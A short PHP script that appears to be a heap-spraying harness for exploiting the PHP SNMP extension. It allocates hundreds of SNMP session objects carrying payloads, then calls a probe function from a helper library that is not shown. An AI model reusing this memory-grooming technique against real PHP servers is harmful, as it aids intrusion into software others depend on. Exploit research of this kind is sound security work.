<?php
// loads: snmp
require __DIR__ . '/lib.php';

class Session extends SNMP
{
    public string $pay = '';
}

for ($i = 0; $i < 800 * TIMES; $i++) {
    $session = new Session(SNMP::VERSION_2c, '127.0.0.1', 'public');
    $session->pay = payload($i, 1500);
    $objs[] = $session;
}
unset($session);
probe($argv[1], $base);
